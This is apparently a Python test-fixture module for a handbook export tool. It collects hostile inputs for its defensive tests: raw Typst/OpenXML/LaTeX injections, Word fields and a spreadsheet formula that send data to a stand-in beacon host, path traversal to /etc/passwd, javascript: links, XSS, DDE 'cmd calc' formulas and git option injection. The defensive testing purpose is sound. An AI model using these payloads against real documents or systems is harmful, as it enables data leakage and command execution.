"""Hostile text aimed at the downloads and the pull-request tooling, and the policy it tests.

Each constant is a payload someone could propose in an ordinary-looking pull request. The
tests that use it say what must come out instead; the policy, in short:

- Raw output formats never come from content (issue 9, class 5). pandoc reads every piece of
  content, admonition and fenced-div titles included, with raw_attribute, raw_html and raw_tex
  off, so `` `...`{=typst} ``, `{=openxml}`, `{=html}` and `{=latex}` are shown as text: no
  Typst runs in a PDF, and no Word field (INCLUDEPICTURE, HYPERLINK) is written into a .docx.
  Tests: tests/export/test_export_attacks.py::test_raw_payloads_*. Images must be published
  under images/ and links must go to the web, e-mail or the document; any other address is
  dropped and its text kept (test_addresses_*).
- A character XML cannot hold never breaks a download (class 9). NUL, vertical tab and the
  other C0 controls become U+FFFD where text enters a .docx, .xlsx or pandoc's input; bidi
  controls such as U+202E are valid XML and are kept (the loader decides whether content may
  hold them). Tests: test_export_attacks.py::test_control_characters_*.
- A spreadsheet never evaluates content (part 4, after OWASP's CSV-injection advice): every
  cell of content is a string cell, quote-prefixed when it starts with =, +, -, @, tab or a
  line break; the rating drop-down reads its choices from the Scale sheet, so a label holding
  `"` or `,` is offered whole. Tests: test_export_attacks.py::test_workbook_*.
- A git revision is never an option (part 5): `handbook diff` refuses one starting with `-`
  (exit 2) and passes `--end-of-options`. Tests: tests/test_diff.py::test_diff_refuses_*.
- The step summary shows statements as text (part 9): `|`, `<`, `>`, backticks, brackets,
  line breaks and invisible characters cannot add rows, hide rows or write HTML.
  Tests: tests/test_diff.py::test_markdown_report_*, tests/test_workflow.py.
"""

from __future__ import annotations

# Class 5: raw attributes. Each would run Typst, write OOXML or HTML if pandoc read it raw.
# None holds a double quote, so each also fits an admonition title (`!!! note "..."`).
TYPST_RUN = "`#upper[typst ran]`{=typst}"
TYPST_PAGE = "`#set page(fill: red)`{=typst}"
TYPST_BLOCK = "```{=typst}\n#upper[typst block ran]\n```"
OPENXML_BEACON = (
    "`<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>"
    " INCLUDEPICTURE http://beacon.invalid/p.png \\d </w:instrText></w:r>"
    "<w:r><w:fldChar w:fldCharType='end'/></w:r>`{=openxml}"
)
OPENXML_FIELD = (
    "`<w:fldSimple w:instr=' HYPERLINK http://beacon.invalid/ '><w:r><w:t>x</w:t></w:r>"
    "</w:fldSimple>`{=openxml}"
)
HTML_RAW = "`<img src='http://beacon.invalid/i.png'>`{=html}"
LATEX_RAW = "`\\input{/etc/passwd}`{=latex}"
RAW_PAYLOADS = (TYPST_RUN, TYPST_PAGE, OPENXML_BEACON, OPENXML_FIELD, HTML_RAW, LATEX_RAW)
# What a payload shows once it is inert: the text a reader sees in the PDF.
TYPST_SHOWN = ("#upper[typst ran]", "#set page(fill: red)")
# What a payload shows if it ran: Typst's upper() of its argument.
TYPST_RAN = ("TYPST RAN", "TYPST BLOCK RAN")
# Where a Word field may come from: the ones we write ourselves, nothing else.
OUR_FIELDS = ("PAGE", "NUMPAGES", "TOC", "TITLE")  # TITLE: the reference .docx header

# Also class 5: addresses pandoc would follow while building. A local image is embedded in the
# .docx (leaking the build machine's files), a remote one is fetched (announcing the build).
LEAKY_IMAGES = (
    "![hostname](/etc/hostname)",
    "![passwd](../../../../../../etc/passwd)",
    "![escape](images/../../../../etc/passwd)",
    "![beacon](http://beacon.invalid/p.png)",
    "![inline](data:image/png;base64,iVBORw0KGgo=)",
)
UNSAFE_LINKS = (
    "[run](javascript:alert(1))",
    "[script](vbscript:msgbox)",
    "[open](file:///etc/passwd)",
    "[page](data:text/html,<script>alert(1)</script>)",
    "[elsewhere](//beacon.invalid/x)",
)

# Class 9: characters XML 1.0 cannot hold, and a bidi override it can.
NUL = "\x00"
VERTICAL_TAB = "\x0b"
ESCAPE = "\x1b"
RIGHT_TO_LEFT_OVERRIDE = "\u202e"
CONTROL_TEXT = f"Safe{NUL}guarding{VERTICAL_TAB}leads{ESCAPE}meet {RIGHT_TO_LEFT_OVERRIDE}weekly"

# Part 4: cell text a spreadsheet would run as a formula, and labels that break an inline list.
FORMULAS = (
    '=HYPERLINK("http://beacon.invalid/?leak="&A1,"Click for guidance")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
SCALE_LABELS = ('Good, "secure"', "=1+1", "Needs work, <urgent>")

# Part 5: a revision that git would read as an option.
REVISION_OPTIONS = ("--output=written-by-git.txt", "-p", "--end-of-options")

# Part 9: a statement that would add, hide or restyle rows of the step summary's table.
SUMMARY_STATEMENTS = (
    "Leaders act | added | fake row |\n| removed | 9.9 `x`: hidden",
    "Staff are trusted <!-- the rest of the table is hidden",
    "<img src=x onerror=alert(1)> <script>alert(1)</script>",
    "# Heading\n### Another",
    "`code` [link](javascript:alert(1)) ![img](http://beacon.invalid/p.png)",
    "Costs $5 and $10 ~~struck~~ **bold**",
    f"Right{RIGHT_TO_LEFT_OVERRIDE}left and zero\u200bwidth",
)
